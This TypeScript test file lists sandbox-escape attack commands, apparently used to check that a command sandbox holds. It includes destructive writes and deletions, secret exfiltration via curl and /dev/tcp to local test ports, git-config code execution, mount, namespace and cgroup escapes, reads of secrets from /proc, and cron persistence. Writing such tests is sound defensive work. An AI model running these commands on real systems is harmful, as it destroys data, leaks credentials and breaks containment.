/**
 * What a command must not be able to do, as a table both back-ends and both kinds of user are held to. Paths of
 * the prepared world come as variables, see `attack-world.ts`. An attack on the kernel writes back what it read: where it
 * works it must not hurt the host it was tried on.
 */

import { KERNEL_ATTACKS } from "./kernel-attacks.ts";

export interface Attack {
  readonly name: string;
  readonly mode: "read-only" | "workspace-write";
  /** For bash, in the workspace. */
  readonly command: string;
  /** What the output must match when the wall holds. Without it the command must fail. */
  readonly held?: RegExp;
  /** Touches nothing but the prepared world, so it may also be tried without a wall. */
  readonly isHarmless?: boolean;
  /** Held only where the kernel has it. */
  readonly needs?: "landlock";
  /** bwrap has no way to hold it when root runs it. */
  readonly isOpenToRootInBwrap?: boolean;
}

/** Commands that write or leak although a pattern of forbidden words lets them pass. */
const WRITING: readonly string[] = [
  "echo hi > src/x",
  "echo hi >> src/x",
  "sed -i s/one/two/ src/x",
  "echo hi | tee src/x",
  'perl -e \'open(my $f, ">", "src/x") or die; print $f "hi"\'',
  'node -e \'require("fs").appendFileSync("src/x", "z")\'',
  "git reset --hard HEAD~1",
  "git commit -am more",
  "find . -name x -delete",
  "/bin/rm -rf src",
  "mv src other",
  "cp /etc/passwd src/y",
  "dd if=/dev/zero of=src/x bs=1 count=1",
  "truncate -s 0 src/x",
  "chmod 777 src/x",
  "ln -sf /etc/passwd src/link",
  "mkdir -p src/deep/er && touch src/deep/er/z",
  "npm install --offline --no-audit ./src",
  'python3 -c \'open("src/x", "w").write("hi")\'',
  'sh -c "setsid sh -c \'sh -c \\"echo hi > src/x\\"\'"',
];

/** S9: a program that git runs for whoever configures it: the command itself, its environment, or a repository. */
const TO_RUN = "sh ./evil.sh";
const GIT: readonly (readonly [name: string, command: string])[] = [
  ["a file system monitor", `git -c core.fsmonitor='${TO_RUN}' status`],
  [
    "hooks",
    "h=$(mktemp -d); cp evil.sh $h/pre-commit; git -c user.name=a -c user.email=a@b -c core.hooksPath=$h commit --allow-empty -m x",
  ],
  [
    "filters",
    `a=$(mktemp); echo '* filter=f' > $a; f="-c core.attributesFile=$a -c filter.f.clean"; git $f='${TO_RUN}' hash-object src/x; git $f='${TO_RUN}' -c filter.f.required add --renormalize src`,
  ],
  ["another diff", `git -c diff.external='${TO_RUN}' diff HEAD~1`],
  ["an alias", `git -c alias.e='!${TO_RUN}' e`],
  ["a transport", `timeout 5 git -c protocol.ext.allow=always ls-remote 'ext::${TO_RUN}'`],
  ["another ssh", `timeout 5 git -c core.sshCommand='${TO_RUN}' ls-remote ssh://nobody.invalid/x`],
  [
    "what the environment names",
    `GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0='${TO_RUN}' git status; GIT_EXTERNAL_DIFF='${TO_RUN}' git diff HEAD~1`,
  ],
  ["what a hostile repository names, to look", "git -C hostile status; git -C hostile diff; git -C hostile log -p"],
  [
    "what a hostile repository names, to work",
    "git -C hostile add -A; git -C hostile commit -m x; git -C hostile checkout -f HEAD",
  ],
];

const CONNECT = (target: string): string =>
  `node -e 'require("net").connect(${target}).on("connect", () => process.exit(0)).on("error", () => process.exit(1))'`;

const LEAKING: readonly string[] = [
  "curl -sS -m 3 -d @secret http://127.0.0.1:$PORT/",
  "exec 3<>/dev/tcp/127.0.0.1/$PORT && cat secret >&3",
  CONNECT('process.env.PORT, "127.0.0.1"'),
  CONNECT("process.env.OUTSIDE_SOCKET"),
  CONNECT("process.env.WORKSPACE_SOCKET"),
  CONNECT('"\\0" + process.env.ABSTRACT_SOCKET'),
];

/** 12.7: it began to listen after the sandbox was opened. */
const LATE = (mode: Attack["mode"]): Attack => ({
  name: "12.7: connects to a socket that came later",
  mode,
  command: CONNECT(`process.env.LATE_SOCKETS + "${mode}"`),
  isHarmless: true,
});

const ESCAPES: readonly Omit<Attack, "mode">[] = [
  { name: "S2: remounts the root writable", command: 'mount -o remount,bind,rw / && touch "$OUTSIDE"/escaped' },
  { name: "S2: unmounts a protected folder", command: "umount .git/hooks; echo x > .git/hooks/escaped" },
  { name: "S2: mounts over a protected folder", command: "mount --bind src .git/hooks && echo x > .git/hooks/escaped" },
  {
    name: "S2: remounts from a nested user namespace",
    command: "unshare -Urm sh -c 'mount -o remount,bind,rw /; mount -o remount,rw /; touch \"$OUTSIDE\"/escaped'",
  },
  {
    name: "S2: unmounts from a nested user namespace",
    command: "unshare -Urm sh -c 'umount -l .git/hooks; umount -l .git; echo x > .git/hooks/escaped'",
  },
  {
    name: "S2: binds the workspace elsewhere without its protections",
    command: "unshare -Urm sh -c 'mount --bind \"$WORKSPACE\" /mnt && echo x > /mnt/.git/hooks/escaped'",
  },
  {
    name: "S2: moves a protected folder from a nested user namespace",
    command: "unshare -Urm sh -c 'mv .git moved && mkdir -p .git/hooks && echo x > .git/hooks/escaped'",
  },
  {
    name: "S2: remounts from a nested user namespace without leaving its process",
    command:
      'perl -e \'syscall(272, 0x10020000) == 0 or exit 2; do { my ($n, $r) = ("none", "/"); syscall(165, $n, $r, 0, 0x1020, 0) } == 0 or exit 3; open(my $f, ">", "$ENV{OUTSIDE}/escaped") or exit 4\'',
  },
  { name: "S2: makes a device node", command: "mknod node b 8 0 || unshare -Ur mknod node b 8 0" },
  { name: "S2: reads a block device", command: 'for d in /dev/*; do [ -b "$d" ] && exit 0; done; exit 1' },
  { name: "S2: changes its root", command: "chroot / true" },
  {
    name: "writes a kernel setting",
    command: 'value=$(cat /proc/sys/kernel/core_pattern) && echo "$value" > /proc/sys/kernel/core_pattern',
  },
  { name: "pulls the emergency cord", command: "echo h > /proc/sysrq-trigger" },
  {
    name: "plants a release agent",
    command:
      'for f in $(find /sys/fs/cgroup -name release_agent 2>/dev/null); do echo "$(cat "$f")" > "$f" && exit 0; done; exit 1',
  },
  {
    name: "mounts a control group of its own",
    command:
      "mkdir -p /tmp/cg; unshare -UrmC sh -c 'mount -t cgroup -o memory none /tmp/cg && echo $(cat /tmp/cg/release_agent) > /tmp/cg/release_agent'",
  },
  { name: "makes a control group", command: "mkdir /sys/fs/cgroup/escaped || mkdir /sys/fs/cgroup/unified/escaped" },
  { name: "S4: reads Heddle's home", command: 'cat "$MASKED"/*', isHarmless: true },
  { name: "S4: lists Heddle's home", command: 'ls -A "$MASKED"', held: /^(?!.*token)/s },
  { name: "S4: writes into Heddle's home", command: 'echo x > "$MASKED"/escaped' },
  { name: "S4: reads Heddle's home through a process", command: 'cat /proc/[0-9]*/root"$MASKED"/token' },
  {
    name: "S4: reads Heddle's home from a nested user namespace",
    command: 'unshare -Urm sh -c \'umount -l "$MASKED"; cat "$MASKED"/token\'',
  },
  { name: "S4: has a key in its environment", command: "env | grep CANARY" },
  { name: "S4: finds Heddle's environment", command: "cat /proc/[0-9]*/environ | tr '\\0' '\\n' | grep CANARY" },
  { name: "S2: signals Heddle", command: "kill -0 $HEDDLE_PID" },
  {
    name: "S2: attaches to Heddle",
    command: "grep -q '^Name:.*node' /proc/$HEDDLE_PID/status && head -c 1 /proc/$HEDDLE_PID/mem",
  },
  { name: "S2: sees processes of the host", command: "ls -d /proc/[0-9]* | wc -l | grep -Ex '[0-9]{3,}'" },
  {
    name: "S2: keeps a capability",
    command: "grep -E '^Cap(Prm|Eff|Bnd|Amb|Inh)' /proc/self/status | grep -v '0000000000000000'",
  },
  { name: "S2: may gain privileges", command: "grep '^NoNewPrivs:.0' /proc/self/status" },
  {
    name: "inherits a descriptor that leads somewhere",
    command:
      'for f in /proc/self/fd/*; do case ${f##*/} in [0-3]) ;; *) t=$(readlink "$f") && [ "$t" != /dev/null ] && exit 0 ;; esac; done; exit 1',
  },
  { name: "writes outside", command: 'echo x > "$OUTSIDE"/escaped', isHarmless: true },
  { name: "writes outside through a link", command: 'ln -s "$OUTSIDE"/file link && echo x >> link' },
  { name: "links a file from outside", command: 'ln "$OUTSIDE"/file hard && echo x >> hard' },
  { name: "links a protected file", command: "ln .git/config hard && echo x >> hard" },
  { name: "writes a hook", command: "echo x > .git/hooks/escaped", isHarmless: true },
  { name: "writes the configuration of git", command: "git config core.fsmonitor /bin/escaped" },
  { name: "writes a hook of a nested repository", command: "echo x > vendor/a/b/c/d/.git/hooks/escaped" },
  { name: "moves the git folder away", command: "mv .git moved" },
  { name: "moves a protected folder away", command: "mv .vscode moved" },
  { name: "writes a protected folder", command: "echo x > .vscode/settings.json" },
  { name: "removes a protected file", command: "rm -f .npmrc" },
  { name: "changes its environment's home", command: "touch ~/escaped" },
];

/** Who would run something outside for a command. */
const MANAGERS: readonly Omit<Attack, "mode">[] = [
  { name: "S2: reaches a socket below /run", command: "find /run /var/run/ -type s 2>/dev/null | grep -q ." },
  { name: "S2: speaks to docker", command: CONNECT('"/var/run/docker.sock"') },
  {
    name: "S2: asks the user's systemd",
    command:
      'XDG_RUNTIME_DIR=/run/user/$(id -u) systemd-run --user --wait touch "$OUTSIDE"/escaped || busctl --user list || systemctl --user list-units',
  },
  { name: "S2: leaves a job for at", command: `echo 'touch "$OUTSIDE"/escaped' | at now` },
  {
    name: "S2: leaves a job for cron",
    command:
      'echo "* * * * * touch $OUTSIDE/escaped" | crontab - || echo x > /var/spool/cron/crontabs/escaped || echo x > /etc/cron.d/escaped',
  },
];

const REPOSITORY = (path: string): string =>
  `mkdir -p ${path}/objects ${path}/refs ${path}/hooks; echo 'ref: refs/heads/main' > ${path}/HEAD`;

/** Can be done, and must be undone when the sandbox is closed: nothing called "escaped" may be left. */
const PLANTS: readonly (readonly [name: string, command: string])[] = [
  [
    "a folder below what git takes for a repository",
    `${REPOSITORY("lib")}; mkdir lib/.vscode; touch lib/.vscode/escaped`,
  ],
  [
    "hooks below what git takes for a repository",
    `${REPOSITORY("lib")}; mkdir -p lib/a/.git/hooks; touch lib/a/.git/hooks/escaped`,
  ],
  [
    "hooks of a repository among the objects of another",
    `${REPOSITORY(".git/objects/.git/modules/e")}; touch .git/objects/.git/modules/e/hooks/escaped`,
  ],
  [
    "hooks of a repository among the worktrees of another",
    `${REPOSITORY(".git/worktrees/x/deep")}; touch .git/worktrees/x/deep/hooks/escaped`,
  ],
  [
    "hooks of a repository made of HEAD and commondir",
    "mkdir -p c/hooks; echo 'ref: refs/heads/main' > c/HEAD; echo ../.git > c/commondir; touch c/hooks/escaped",
  ],
  ["a folder among the branches", "mkdir -p .git/refs/x/.envrc; touch .git/refs/x/.envrc/escaped"],
  ["a folder below attributes", "mkdir -p .gitattributes/.vscode; touch .gitattributes/.vscode/escaped"],
  [
    "a folder among samples of hooks",
    "git init -q new; mkdir new/.git/hooks/x.sample; touch new/.git/hooks/x.sample/escaped",
  ],
  ["a link where git writes its log", 'mkdir -p .git/logs; ln -s "$OUTSIDE"/file .git/logs/escaped'],
  ["a pipe where git looks for branches", "mkfifo .git/refs/heads/escaped"],
  ["a folder in one whose name is not text", "mkdir -p $'bad\\xff/.vscode'; touch $'bad\\xff/.vscode/escaped'"],
  ["a folder in one that is closed", "mkdir -p shut/in/.vscode; touch shut/in/.vscode/escaped; chmod 000 shut/in shut"],
  [
    "a folder in one that cannot be written",
    "mkdir -p full/in/.vscode; touch full/in/.vscode/escaped; chmod 555 full/in/.vscode full/in full",
  ],
];

export const ATTACKS: readonly Attack[] = [
  ...WRITING.map((command): Attack => ({
    name: `S1: ${command}`,
    mode: "read-only",
    command,
    isHarmless: command.startsWith("echo"),
  })),
  ...LEAKING.map((command): Attack => ({ name: `S3: ${command}`, mode: "read-only", command, isHarmless: true })),
  ...LEAKING.map((command): Attack => ({ name: `S3: ${command}`, mode: "workspace-write", command })),
  ...ESCAPES.map((escape): Attack => ({ ...escape, mode: "workspace-write" })),
  ...MANAGERS.map((escape): Attack => ({ ...escape, mode: "read-only" })),
  ...MANAGERS.map((escape): Attack => ({ ...escape, mode: "workspace-write" })),
  ...GIT.map(([name, command]): Attack => {
    const isDone = '[ -e "$OUTSIDE"/escaped ] || [ -e escaped ]';
    const tried = `rm -f escaped "$OUTSIDE"/escaped; (${command}); ${isDone}`;
    return { name: `S9: git runs ${name}`, mode: "read-only", command: tried, isHarmless: true };
  }),
  LATE("read-only"),
  LATE("workspace-write"),
  ...KERNEL_ATTACKS,
  ...PLANTS.map(([what, command]): Attack => {
    return { name: `plants ${what}`, mode: "workspace-write", command: `${command}; echo planted`, held: /planted/ };
  }),
];
